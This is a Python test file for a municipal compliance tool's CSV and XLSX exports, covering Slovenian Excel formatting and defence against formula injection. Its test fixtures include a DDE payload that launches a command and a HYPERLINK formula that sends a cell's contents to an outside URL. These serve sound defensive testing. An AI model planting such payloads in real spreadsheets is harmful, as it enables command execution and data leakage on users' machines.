"""`compliance check --format csv` from the reviewer's side: double-clicked in Slovenian
Excel it must open as a table in the reader's language (UTF-8 with a BOM, `;`), a row per
municipality and obligation, the same rows as the spreadsheet's findings sheet, and no cell
may become a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from compliance.render import csv_, xlsx
from compliance.render.review import FINDING_COLUMNS, findings_in_order, ordered
from compliance.messages import texts
from compliance.vocabulary import Grade, Obligation, label
from conftest import DATA, RULES


@pytest.fixture(scope="module")
def bundled():
    from compliance.assess import assess

    return assess(DATA, RULES, 2019)


def rows_of(data: bytes, delimiter: str) -> list[list[str]]:
    """Read as Excel does with a BOM: UTF-8, the regional list separator."""
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark: Excel would read Windows-1250"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=delimiter))


def test_slovenian_excel_reads_bom_semicolons_and_slovenian_words(cli, bundled):
    registry, assessment = bundled
    result = cli("check", "--year", "2019", "--format", "csv")
    assert result.exit_code == 0, result.output
    header, *rows = rows_of(result.stdout_bytes, ";")
    assert header == ["Občina", "Obveznost", "Vrsta", "Ocena", "Odločitev pregledovalca", "Pravna podlaga",
                      "Izvor podatkov", "Ugotovitev", "Kaj navaja občina", "Dokazi iz poročila", "Vsebina določbe",
                      "ID", "Regija", "Voli romskega svetnika"]
    assert all(len(row) == len(header) for row in rows)  # no sentence split at its own `;`
    got = [dict(zip(header, row)) for row in rows]
    # a row per municipality and obligation, municipalities in Slovenian alphabetical order
    assert [(r["ID"], r["Obveznost"]) for r in got] == [
        (m, label(o, "sl")) for m in ordered(assessment, registry) for o in Obligation
    ]
    ids = [r["ID"] for r in got[::4]]
    assert ids.index("brezice") < ids.index("celje") < ids.index("crensovci") < ids.index("dobrovnik")
    assert ids.index("semic") < ids.index("sentjernej") < ids.index("skocjan") < ids.index("tisina")
    # grades in the words of their kind ("ni izpolnjeno" for the Office's request)
    assert [r["Ocena"] for r in got] == [f.grade_label("sl") for f in findings_in_order(assessment, registry)]
    assert {r["Vrsta"] for r in got} == {"zakonska obveznost", "priporočilo", "prošnja Urada"}
    assert "Občina Črenšovci" in {r["Občina"] for r in got}
    assert {r["Voli romskega svetnika"] for r in got} == {"da", "ne"}
    # what is known of the facts' age, and the municipality's own reasons with their sentences
    kuzma = {r["Obveznost"]: r for r in got if r["ID"] == "kuzma"}
    assert kuzma["program ukrepov"]["Izvor podatkov"] == "iz zadnjega prispevka"
    reasons = [f for f in assessment.findings if f.reasons]
    assert reasons
    for finding in reasons:
        row = next(r for r in got if r["ID"] == finding.municipality and r["Obveznost"] == label(finding.obligation, "sl"))
        for reason in finding.reasons:
            assert reason.summary in row["Kaj navaja občina"]
    # no internal codes or rule ids for the lawyer
    text = result.stdout_bytes.decode("utf-8-sig")
    for code in ("non_compliant", "not_applicable", "programme.", "working_body."):
        assert code not in text


def test_english_uses_commas_and_english_words(cli, bundled):
    _, assessment = bundled
    header, *rows = rows_of(cli("check", "--year", "2019", "--format", "csv", "--lang", "en").stdout_bytes, ",")
    assert header[:4] == ["Municipality", "Obligation", "Kind", "Grade"]
    got = [dict(zip(header, row)) for row in rows]
    assert {r["Grade"] for r in got} == {f.grade_label("en") for f in assessment.findings}
    assert sorted(r["Finding"] for r in got) == sorted(f.message("en") for f in assessment.findings)
    assert all("člen" not in r["Legal basis"] for r in got)  # the citation is English too


def test_csv_out_file_is_the_same_as_stdout(cli, tmp_path):
    out = tmp_path / "ugotovitve.csv"
    written = cli("check", "--year", "2019", "--format", "csv", "--out", str(out), "--date", "2020-03-02")
    assert written.exit_code == 0, written.output
    printed = cli("check", "--year", "2019", "--format", "csv", "--date", "2020-03-02").stdout_bytes
    assert out.read_bytes() == printed


@pytest.mark.parametrize("lang,delimiter", [("sl", ";"), ("en", ",")])
def test_csv_has_the_rows_of_the_findings_sheet(bundled, lang, delimiter):
    """Whichever file a lawyer opens, each finding reads the same (as the README says)."""
    registry, assessment = bundled
    book = load_workbook(io.BytesIO(xlsx.render(assessment, registry, lang)))
    sheet = book.worksheets[1]
    sheet_rows = [["" if c.value is None else str(c.value) for c in row] for row in sheet.iter_rows(min_row=2)]
    csv_rows = rows_of(csv_.render(assessment, registry, lang).encode("utf-8"), delimiter)
    assert csv_rows[0] == [texts("column", lang)[key] for key in FINDING_COLUMNS]
    assert csv_rows == sheet_rows


PLANTED = ["=1+1 Občina še nima programa.", "+386 1 234 5678 je telefon.", "-ukrepi so v pripravi.",
           "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com/\"&A1,\"klik\")"]


@pytest.fixture(scope="module")
def planted():
    """The sample assessment with evidence that a spreadsheet would read as formulas."""
    from dataclasses import replace

    from test_html_sample import sample

    assessment, registry = sample()
    findings = list(assessment.findings)
    findings[1] = findings[1].model_copy(update={"evidence": PLANTED})
    return replace(assessment, findings=tuple(findings)), registry


def test_formula_prefixes_are_neutralised_in_csv(planted):
    assessment, registry = planted
    header, *rows = rows_of(csv_.render(assessment, registry, "sl").encode("utf-8"), ";")
    evidence = [row[header.index("Dokazi iz poročila")] for row in rows]
    cell = next(e for e in evidence if "Občina še nima programa" in e)
    assert cell.split("\n") == ["'" + PLANTED[0]] + PLANTED[1:]  # one cell: only its start matters
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_formulas_stay_text_in_xlsx_and_in_libreoffice(planted, tmp_path):
    """Every evidence sentence as its own cell's start: read back by openpyxl as text, and
    by LibreOffice as the same text (never Err:509 or a computed value)."""
    import shutil
    import subprocess

    assessment, registry = planted
    from dataclasses import replace

    findings = list(assessment.findings)
    for index, sentence in enumerate(PLANTED):
        findings[index] = findings[index].model_copy(update={"evidence": [sentence]})
    assessment = replace(assessment, findings=tuple(findings))
    book = tmp_path / "planted.xlsx"
    book.write_bytes(xlsx.render(assessment, registry, "sl"))
    sheet = load_workbook(book).worksheets[1]
    column = [c.value for c in sheet[2]].index("Dokazi iz poročila")
    cells = [row[column] for row in sheet.iter_rows(min_row=3)]
    assert sorted(c.value for c in cells if c.value in PLANTED) == sorted(PLANTED)
    assert all(c.data_type == "s" for c in cells if c.value in PLANTED)

    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed: `apt-get install libreoffice-calc-nogui`")
    subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
         "--convert-to", "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,2",
         "--outdir", str(tmp_path), str(book)],
        check=True, capture_output=True, timeout=120,
    )
    exported = next(tmp_path.glob("planted*.csv")).read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(exported, newline=""), delimiter=";"))
    shown = {row[column] for row in rows[2:]}
    assert set(PLANTED) <= shown
    assert "Err:" not in exported and "#NAME?" not in exported
